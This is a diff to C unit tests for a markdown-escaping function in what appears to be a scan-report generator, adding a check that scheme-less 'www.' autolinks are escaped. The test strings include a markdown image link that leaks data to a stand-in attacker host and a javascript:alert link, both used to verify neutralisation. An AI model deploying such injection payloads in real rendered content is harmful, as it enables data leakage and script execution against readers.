@@ -133,6 +133,10 @@ START_TEST(markdown_escapes_links_images_code_and_blocks)
                      "| \\!\\[x\\]\\(https\\://attacker.example/leak?d=1\\) \\[l\\]\\(javascript\\"
                      ":alert\\(1\\)\\) \\`code\\` &lt;b&gt;\\| |");
     pcfmcp__mt_reset(&t);
+    /* GFM's extended autolinks need no scheme: "www." alone makes a link. */
+    MT_FMT(&t, "{}", MA_MD("see www.attacker.example/?d=1 (WWW.x.example) awww.b"));
+    ck_assert_str_eq(pcfmcp__mt_str(&t), "see www\\.attacker.example/?d=1 \\(WWW\\.x.example\\) awww\\.b");
+    pcfmcp__mt_reset(&t);
     pcfmcp__mt_md_block(&t, "    indented code\n   ```\n# heading\n1. list\n> quote\n---");
     ck_assert_str_eq(pcfmcp__mt_str(&t), "indented code  \n\\`\\`\\`  \n\\# heading  \n1\\. list  \n"
                                          "\\> quote  \n\\---\n\n");
@@ -350,7 +354,7 @@ START_TEST(report_markdown_has_summaries_and_escapes_html)
     ck_assert_ptr_nonnull(strstr(md, "| medium | 1 |"));
     ck_assert_ptr_nonnull(strstr(md, "| 10.0.0.5 | 1 | 0 | 1 | 0 | 0 |"));
     ck_assert_ptr_nonnull(strstr(md, "| http | 1 |"));
-    ck_assert_ptr_nonnull(strstr(md, "10.0.0.5:80/tcp \\(http\\) www.example"));
+    ck_assert_ptr_nonnull(strstr(md, "10.0.0.5:80/tcp \\(http\\) www\\.example"));
     ck_assert_ptr_null(strstr(md, "<script>"));
     ck_assert_ptr_null(strstr(md, "<img"));
     ck_assert_ptr_nonnull(strstr(md, "\\# not a heading"));
